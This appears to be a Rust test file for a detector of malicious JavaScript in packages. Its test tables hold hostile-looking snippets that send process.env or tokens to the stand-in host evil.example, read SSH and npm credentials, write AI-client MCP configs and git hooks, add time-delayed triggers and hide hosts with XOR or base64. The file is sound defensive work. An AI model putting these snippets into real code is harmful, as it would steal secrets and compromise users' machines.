//! Tables: a line of JavaScript, and the facts that it must give.

use oxc_allocator::Allocator;

use super::read;
use crate::caps::Caps;
use crate::facts::{Class, Facts, Found};

fn facts(source: &str, file: &str) -> Facts {
    let mut facts = Facts::default();
    let mut found = Found::new(&mut facts, file, source);
    let outcome = read(source, &Caps::default(), &Allocator::new(), &mut found);
    crate::facts::recognisers::places::finish(&mut found);
    outcome.unwrap_or_else(|why| panic!("{why:?}: {source}"));
    facts
}

fn values(source: &str, class: Class) -> Vec<String> {
    facts(source, "index.js").values(class).map(|(value, _)| value.to_owned()).collect()
}

fn check(class: Class, table: &[(&str, &[&str])]) {
    for (source, expected) in table {
        assert_eq!(values(source, class), *expected, "{source}");
    }
}

#[test]
fn capabilities_are_known_under_any_name() {
    check(
        Class::Exec,
        &[
            ("import { exec } from 'child_process'; exec('ls')", &["child_process", "child_process.exec"]),
            ("import * as cp from 'node:child_process'; cp.spawn('ls')", &["child_process", "child_process.spawn"]),
            (
                "const { execSync: run } = require('child_process'); run('ls')",
                &["child_process", "child_process.execSync"],
            ),
            ("(0, require('child_process').exec)('ls')", &["child_process", "child_process.exec"]),
            (
                "var a = b(require('child_process'), 1); (0, a.execFile)('ls')",
                &["child_process", "child_process.execFile"],
            ),
            ("require('child_' + 'process')['ex' + 'ec']('ls')", &["child_process", "child_process.exec"]),
            (
                "import { promisify } from 'util'; import { exec } from 'child_process'; const run = promisify(exec); run('ls')",
                &["child_process", "child_process.exec"],
            ),
            ("const cp = await import('node:child_process'); cp.exec('ls')", &["child_process", "child_process.exec"]),
            ("process.getBuiltinModule('child_process').exec('x')", &["child_process", "child_process.exec"]),
            ("/a/.exec(text); db.exec('select'); function exec() {} exec('x')", &[]),
        ],
    );
    check(
        Class::Http,
        &[
            ("fetch('https://a.dev')", &["fetch"]),
            ("globalThis.fetch(x)", &["fetch"]),
            ("import axios from 'axios'; axios.post(x)", &["axios", "axios.post"]),
            ("function f(fetch) { fetch(x) }", &[]),
        ],
    );
    check(
        Class::FileWrite,
        &[
            ("import fs from 'fs'; fs.promises.writeFile('a', b)", &["fs.writeFile"]),
            ("import { writeFile } from 'fs/promises'; writeFile('a', b)", &["fs/promises.writeFile"]),
            ("import fs from 'fs'; fs.readFileSync('a')", &[]),
        ],
    );
}

#[test]
fn code_that_is_made_at_run_time() {
    check(
        Class::DynamicCode,
        &[
            ("eval(x)", &["eval"]),
            ("new Function('a', b)()", &["Function"]),
            ("const e = globalThis['ev' + 'al']; e(x)", &["eval"]),
            ("setTimeout('alert(1)', 10)", &["setTimeout"]),
            ("setTimeout(() => 1, 10)", &[]),
            ("import vm from 'vm'; vm.runInThisContext(x)", &["vm", "vm.runInThisContext"]),
        ],
    );
    check(
        Class::DynamicImport,
        &[
            ("import(x)", &["import"]),
            ("require(x)", &["require"]),
            ("require('./locales/' + x)", &["require ./locales/*"]),
            ("import('./a.js'); require('b')", &[]),
            (
                "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r(x); r('fs')",
                &["require"],
            ),
        ],
    );
}

#[test]
fn environment_names() {
    check(
        Class::Environment,
        &[
            ("process.env.NPM_TOKEN", &["NPM_TOKEN"]),
            ("process.env['NPM' + '_TOKEN']", &["NPM_TOKEN"]),
            ("const { NPM_TOKEN, GH_TOKEN: x = 1 } = process.env; y(NPM_TOKEN, x)", &["*", "GH_TOKEN", "NPM_TOKEN"]),
            ("const e = process.env; e.NPM_TOKEN", &["*", "NPM_TOKEN"]),
            ("send(JSON.stringify(process.env))", &["*"]),
            ("import { env } from 'process'; env.A_TOKEN", &["A_TOKEN"]),
            ("Deno.env.get('A_TOKEN'); import.meta.env.B", &["A_TOKEN", "B"]),
            ("x.env.NOT", &[]),
        ],
    );
}

#[test]
fn hosts_and_the_keys_that_hold_them() {
    check(
        Class::Host,
        &[
            ("fetch('https://api.evil.example/x')", &["api.evil.example"]),
            ("const h = 'evil.example'; fetch(`https://${h}/x`)", &["evil.example"]),
            ("fetch('https://' + Buffer.from('ZXZpbC5leGFtcGxl', 'base64') + '/')", &["evil.example"]),
            ("fetch(`https://${x}.evil.example`)", &["*.evil.example"]),
        ],
    );
    check(
        Class::HostKey,
        &[
            ("x({ hostname: 'evil.example', port: 25 })", &["evil.example"]),
            ("x({ webhook: 'https://evil.example/y' })", &["evil.example"]),
            ("const endpoint = process.env.X || 'https://evil.example'", &["evil.example"]),
            ("x({ url: './index.js' }); y({ host: z })", &[]),
        ],
    );
}

#[test]
fn places_and_commands() {
    check(
        Class::SensitivePath,
        &[
            (
                "import path from 'path'; import os from 'os'; read(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                &["ssh", "ssh-key"],
            ),
            ("read(home + '/.npmrc')", &["npmrc"]),
            ("read(atob('Ly5hd3MvY3JlZGVudGlhbHM='))", &["aws"]),
        ],
    );
    check(
        Class::ClientConfigWrite,
        &[
            ("import fs from 'fs'; fs.writeFileSync(home + '/.cursor/mcp.json', x)", &["cursor"]),
            (
                "import fs from 'fs'; for (const p of ['.claude.json', '.mcp.json']) fs.writeFileSync(p, x)",
                &["claude-code", "mcp-json"],
            ),
            ("console.log('put this into claude_desktop_config.json')", &[]),
        ],
    );
    check(
        Class::GitHook,
        &[
            ("run('git config --global core.hooksPath ' + x)", &["hooks-path"]),
            ("run(['git', 'config', '--global', 'init.templateDir', x])", &["template-folder"]),
            ("write('.git/hooks/pre-commit')", &["hooks-folder"]),
        ],
    );
    check(Class::CiFile, &[("write('.github/workflows/x.yml')", &["github"])]);
    check(Class::SelfPublish, &[("run('npm publish --access public')", &["npm"]), ("x('publish')", &[])]);
}

#[test]
fn waiting_and_dns() {
    check(
        Class::TimeGate,
        &[
            ("setTimeout(run, 48 * 60 * 60 * 1000)", &["waits 172800 s"]),
            ("const HOURS = 3600e3; setTimeout(run, 72 * HOURS)", &["waits 259200 s"]),
            ("setTimeout(run, 1000)", &[]),
            ("if (Date.now() > 1790000000000) run()", &["date 1790000000"]),
            ("if (new Date() > new Date('2026-09-01')) run()", &["date 2026-09-01"]),
            ("if (Date.now() - installed > 48 * 3600 * 1000) run()", &["elapsed 172800000"]),
            ("if (Date.now() - t > 1000) x()", &[]),
        ],
    );
    check(
        Class::DnsLabel,
        &[
            ("import dns from 'dns'; dns.resolveTxt(data + '.evil.example', f)", &["dns.resolveTxt"]),
            ("import { exec } from 'child_process'; exec(`nslookup ${x}.evil.example`)", &["child_process.exec"]),
            ("import dns from 'dns'; dns.lookup(host, f); dns.resolve4('a.example', f)", &[]),
        ],
    );
}

#[test]
fn encoded_texts() {
    let base64 = "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXpBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWjAxMjM0NTY3ODk".repeat(10);
    assert_eq!(values(&format!("x = '{base64}'"), Class::Encoded).len(), 1);
    assert_eq!(values(&format!("x = 'iVBOR{base64}'"), Class::Encoded).len(), 0);
    assert_eq!(values(&format!("x = '{}'", "lorem ipsum ".repeat(100)), Class::Encoded).len(), 0);
    assert_eq!(values(&format!("x = '{}'", "0123456789abcdef".repeat(20)), Class::Encoded).len(), 1);
}

#[test]
fn the_key_reaches_to_the_next_function_only() {
    let sources =
        ["x({ bcc: () => { log('a@b.example') } })", "x({ bcc: function () { return y({ from: 'a@b.example' }) } })"];
    for source in sources {
        assert_eq!(values(source, Class::Recipient), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn typescript_and_jsx_are_read() {
    let typed = "enum A { X = 1 } const bcc: string = 'a@evil.example' as const; type T = { to: 'b@c.example' };";
    let facts = facts(typed, "src/a.ts");
    assert_eq!(facts.values(Class::Recipient).map(|(value, _)| value).collect::<Vec<_>>(), ["a@evil.example"]);
    let jsx = "export const A = () => <a href='mailto:a@evil.example'>x</a>;";
    assert_eq!(values(jsx, Class::Email), ["a@evil.example"]);
}

#[test]
fn a_window_is_no_file() {
    let named = "const config = home + '/.cursor/mcp.json';";
    for opened in [
        "window.open(url, '_blank')",
        "window.open(url, 'wax', 'width=1')",
        "globalThis.open(url, name)",
        "import open from 'open'; open(url, 'a')",
    ] {
        let source = format!("{opened}; {named}");
        assert_eq!(values(&source, Class::FileWrite), Vec::<String>::new(), "{source}");
        assert_eq!(values(&source, Class::FileRead), Vec::<String>::new(), "{source}");
        assert_eq!(values(&source, Class::ClientConfigWrite), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn a_file_is_written_in_many_ways() {
    let way = |line: &str| format!("const config = home + '/.cursor/mcp.json'; {line}");
    for line in [
        "import fs from 'fs'; const fd = fs.openSync(config, 'w'); send(fd)",
        "import fs from 'fs'; fs.open(config, 'as+', (e, fd) => use(fd))",
        "import fs from 'fs'; fs.openSync(config, fs.constants.O_WRONLY | fs.constants.O_CREAT)",
        "import { constants, openSync } from 'fs'; openSync(config, constants.O_RDWR)",
        "import { open } from 'fs/promises'; const h = await open(config, 'w')",
        "import * as fsp from 'fs/promises'; const h = await fsp.open(config, flags); await h.write(x)",
        "import fs from 'fs'; const h = await fs.promises.open(config, flags); await h.appendFile(x)",
        "import fs from 'fs'; fs.createWriteStream(config).end(x)",
        "import fs from 'fs'; new fs.WriteStream(config)",
        "import fs from 'fs'; fs.cpSync('config.json', config)",
        "import { copyFile } from 'fs/promises'; await copyFile('config.json', config)",
        "import fs from 'fs'; fs.renameSync('config.json', config)",
        "require('node:fs')['rename' + 'Sync']('config.json', config)",
        "import fse from 'fs-extra'; fse.outputFile(config, x)",
        "await Deno.open(config, { write: true, create: true })",
        "await Deno.copyFile('config.json', config)",
        "Bun.file(config).writer()",
    ] {
        assert_eq!(values(&way(line), Class::ClientConfigWrite), ["cursor"], "{line}");
    }
    for line in [
        "import fs from 'fs'; fs.openSync(config, 'r')",
        "import fs from 'fs'; fs.openSync(config)",
        "import fs from 'fs'; fs.openSync(config, fs.constants.O_RDONLY)",
        "import { open } from 'fs/promises'; const h = await open(config); await h.readFile()",
        "await Deno.open(config, { read: true })",
        "Bun.file(config).text()",
    ] {
        assert_eq!(values(&way(line), Class::ClientConfigWrite), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn what_only_looks_like_a_way_to_run_text() {
    check(
        Class::DynamicCode,
        &[
            ("class A { get(schema) { return this._compile(schema) } }", &[]),
            ("m._compile(text, 'x.js')", &["*._compile"]),
            ("m._compile(...both)", &["*._compile"]),
            ("m._compile.call(m, text, 'x.js')", &["*._compile.call"]),
            ("m._compile.apply(m, both)", &["*._compile.apply"]),
            ("const run = m._compile.bind(m); run(text, 'x.js')", &["*._compile.bind"]),
            (
                "import Module from 'module'; Module.prototype._compile.call(m, text, 'x.js')",
                &["module.prototype._compile.call"],
            ),
            ("module._compile(text)", &["module._compile"]),
            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', Function)", &[]),
            ("import { __metadata as m } from 'tslib'; m('design:paramtypes', [Function, Object])", &[]),
            ("const tslib_1 = require('./tslib'); tslib_1.__metadata('design:type', Function)", &["Function"]),
            ("const tslib_1 = require('tslib'); tslib_1.__metadata('type', Function)", &["Function"]),
            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', Function('x'))", &["Function"]),
            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', [Function][0])", &["Function"]),
            ("function __metadata(k, v) { v(k)() } __metadata('design:type', Function)", &["Function"]),
        ],
    );
}

#[test]
fn an_import_of_what_reaches_nothing_says_nothing() {
    check(
        Class::Socket,
        &[
            ("import { isIP, isIPv6 as six } from 'node:net'; isIP(x)", &[]),
            ("import { isIP, connect } from 'net'; connect(1)", &["net", "net.connect"]),
            ("import net, { isIP } from 'net'; isIP(x)", &["net"]),
            ("import * as net from 'net'; net.isIP(x)", &["net"]),
            ("import 'net'", &["net"]),
            ("export { isIP } from 'net'", &["net"]),
        ],
    );
    let typed = |source: &str| facts(source, "a.ts").has(Class::Socket);
    assert!(!typed("import { AddressInfo } from 'net'; const a = server.address() as AddressInfo;"));
    assert!(!typed("import { type Socket } from 'net'; let a: Socket;"));
    assert!(typed("import { Socket } from 'net'; new Socket();"));
}

#[test]
fn a_timer_with_nothing_to_do_waits_for_nothing() {
    check(
        Class::TimeGate,
        &[
            ("setInterval(() => {}, 24 * 60 * 60 * 1e3)", &[]),
            ("setTimeout(function () {}, 2147483647)", &[]),
            ("setInterval(() => { run() }, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
            ("setInterval((a = run()) => {}, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
            ("setInterval(({ [run()]: a }) => {}, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
            ("setTimeout(() => run(), 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
        ],
    );
}

#[test]
fn decoders_that_people_write_themselves() {
    // "evil.example", every character of it with 7.
    let numbers = "[98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98]";
    for decoder in [
        format!("{numbers}.map(c => String.fromCharCode(c ^ 7)).join('')"),
        format!("{numbers}.map(function (c) {{ return String.fromCharCode(c ^ 7) }}).join('')"),
        format!("{numbers}.reduce((text, c) => text + String.fromCharCode(c ^ 7), '')"),
        format!("String.fromCharCode(...{numbers}.map(c => c ^ 7))"),
        format!("Buffer.from({numbers}).map(c => c ^ 7).toString()"),
        format!("Buffer.from({numbers}.map(c => c ^ 7)).toString('utf8')"),
        "k.map((c, i) => String.fromCharCode(c ^ key[i % key.length])).join('')".to_owned(),
        "'bqnk)b\u{7f}fjwkb'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('')".to_owned(),
        "[...'bqnk)b\u{7f}fjwkb'].map(c => String.fromCharCode(c.charCodeAt() ^ 7)).join('')".to_owned(),
        "[2, 7, 3, 4, 0, 2, 8, 1, 5, 6, 4, 2].map(i => '.aeilmpvx'.charAt(at[i])).join('')".to_owned(),
    ] {
        let source = format!(
            "const k = {numbers}, key = [7, 7], at = {{ 0: 0, 1: 1, 2: 2, 3: 3, 4: 4, 5: 5, 6: 6, 7: 7, 8: 8 }}; fetch('https://' + {decoder} + '/')"
        );
        assert!(
            values(&source, Class::Host).iter().any(|host| host == "evil.example"),
            "{decoder}: {:?}",
            values(&source, Class::Host)
        );
    }
    // What is not worked out is not known, and no guess.
    for decoder in [
        "list.map(c => String.fromCharCode(c ^ 7)).join('')",
        "[1, 2].map(c => decode(c)).join('')",
        "[1, 2].map(async c => { await x(); return c }).join('')",
    ] {
        assert_eq!(
            values(&format!("fetch('https://' + {decoder} + '/')"), Class::Host),
            Vec::<String>::new(),
            "{decoder}"
        );
    }
}

#[test]
fn a_long_list_under_many_functions_takes_no_time() {
    let numbers: String = (0..4_000).map(|number| format!("{},", number % 100)).collect();
    let many = "a.map(c => String.fromCharCode(c ^ 7)).join('');\n".repeat(4_000);
    assert!(values(&format!("const a = [{numbers}];\n{many}"), Class::Host).is_empty());
    let nested = format!("{}c{}", "[1, 2, 3, 4].map(c => ".repeat(60), ")".repeat(60));
    assert!(values(&nested, Class::Host).is_empty());
}

#[test]
fn the_whole_environment_goes_to_a_host() {
    let hosts = |line: &str| values(&format!("import axios from 'axios'; {line}"), Class::SecretSent);
    for sent in [
        "process.env",
        "{ body: process.env }",
        "{ body: JSON.stringify(process.env) }",
        "{ body: JSON.stringify({ env: process.env, at: 1 }) }",
        "{ body: JSON.stringify({ ...process.env }) }",
        "{ body: JSON.stringify(Object.entries(process.env)) }",
        "{ body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&') }",
        "{ body: new URLSearchParams(process.env) }",
        "{ body: Buffer.from(JSON.stringify(process.env)).toString('base64') }",
        "{ body: btoa(JSON.stringify(Object.assign({}, process.env))) }",
        "{ body: `env=${JSON.stringify(process.env)}` }",
        "{ headers: { x: JSON.stringify(process.env).replace(/a/g, 'b') } }",
        "{ body: JSON.stringify({ key: process.env.NPM_TOKEN }) }",
    ] {
        assert_eq!(hosts(&format!("axios.post('https://evil.example', {sent})")), ["evil.example"], "{sent}");
    }
    let all = "const all = { ...process.env }; fetch('https://evil.example', { body: JSON.stringify(all) })";
    assert_eq!(hosts(all), ["evil.example"]);
    for line in [
        "spawn('x', { env: process.env, url: 'https://a.example' })",
        "start({ env: { ...process.env }, url: 'https://a.example' })",
        "axios.post('https://a.example', { body: JSON.stringify({ port: process.env.PORT }) })",
        "axios.post('https://a.example', { key: process.env[name] })",
        "axios.post('https://a.example', x); log(process.env)",
    ] {
        assert_eq!(hosts(line), Vec::<String>::new(), "{line}");
    }
}
